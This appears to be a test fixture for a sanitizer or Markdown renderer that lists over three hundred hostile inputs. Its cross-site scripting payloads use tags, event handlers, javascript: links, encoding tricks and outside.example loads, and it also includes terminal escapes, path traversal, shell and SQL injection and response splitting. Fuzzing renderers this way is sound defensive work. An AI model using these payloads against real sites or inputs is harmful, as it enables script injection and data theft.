// Texts that do harm where they are taken for more than text. Each that runs calls
// `alert`, asks another machine for something, or breaks the page's policy: the watch of
// every test notices any of it.

const RUN = "alert(1)";
const AWAY = "http://outside.example/x";

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><rect width=99 height=99></a></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<object data=${AWAY}></object>`,
  `<embed src=${AWAY}>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<style>@import url(${AWAY});*{background:url(${AWAY})}</style>`,
  `<base href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action=${AWAY}><button autofocus>x</button></form>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=${AWAY} autoplay></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#1;javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
];

const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `[x](file:///etc/passwd)`,
  `[x](//outside.example/x)`,
  `![x](${AWAY})`,
  `![x](javascript:${RUN})`,
  `![x](${AWAY} "onload=${RUN}")`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[![x](${AWAY})](javascript:${RUN})`,
  `[x](http://a" onmouseover=${RUN} x=")`,
  "```js\n</code></pre><script>" + RUN + "</script>\n```",
  '```"><img src=x onerror=' + RUN + ">\nx\n```",
  "`</code><img src=x onerror=" + RUN + ">`",
  `| <img src=x onerror=${RUN}> |\n|---|\n| x |`,
  `<details><summary>x</summary><script>${RUN}</script></details>`,
];

const BREAKS = [
  `"`,
  `'`,
  `">`,
  `'>`,
  `-->`,
  `]]>`,
  "`",
  `</title>`,
  `</script>`,
  `</style>`,
];
const BROKEN = BREAKS.flatMap((it) => [
  `${it}<script>${RUN}</script>`,
  `${it} onmouseover=${RUN} autofocus onfocus=${RUN} x=${it}`,
  `</textarea>${it}<img src=x onerror=${RUN}>`,
  `${it};${RUN};//`,
]);

const EXPRESSIONS = ["{{", "${", "<%=", "#{", "[[", "{%"].map((it) => `${it}${RUN}}}%>]]`);

const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<\u200bscript>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
];

const TERMINAL = [
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;http://outside.example/x\u0007link\u001b]8;;\u0007",
  "\u001b]52;c;YWxlcnQ=\u0007",
  "\u001b[2J\u001b[H",
  "\u009b31m",
  "\u0007\u0008\u007f",
];

const CHARACTERS = [
  "\u202egnp.exe",
  "\u2066\u2067a\u2069b",
  "a\u0300".repeat(60),
  "\ufeffx",
  "\ufffd\uffff",
  "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}",
  "日本語の長い題名".repeat(20),
  "نص من اليمين إلى اليسار",
  "W".repeat(400),
  "very ".repeat(300),
  "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script>",
  "../../../../etc/passwd",
  "C:\\Windows\\System32",
  "$(touch /tmp/x)`touch /tmp/x`",
  "'; DROP TABLE sessions; --",
  `" OR 1=1 NEAR("a" "b") * ^`,
  "NaN",
  "null",
  "__proto__",
  "constructor",
];

const HANDLERS = [
  "onload",
  "onerror",
  "onfocus",
  "onanimationend",
  "ontransitionend",
  "onpointerover",
  "onscroll",
  "onwheel",
  "oncopy",
  "ontoggle",
  "onbegin",
  "onhashchange",
].map((it) => `<x ${it}=${RUN} tabindex=1 style="animation:x 1s">x</x>`);

const ALONE = [...HANDLERS, ...TAGS, ...LINKS, ...BROKEN, ...EXPRESSIONS, ...ENCODED];

/** More than three hundred of them, all different. */
export const HOSTILE: readonly string[] = [
  ...ALONE,
  ...TERMINAL,
  ...CHARACTERS,
  // In the middle of text, and in the middle of Markdown that is open there.
  ...ALONE.map((it) => `a ${it} b`),
  ...TAGS.map((it) => `- **${it}**\n\n> ${it}`),
  ...TAGS.map((it) => it.toUpperCase().replaceAll("ALERT", "alert")),
];
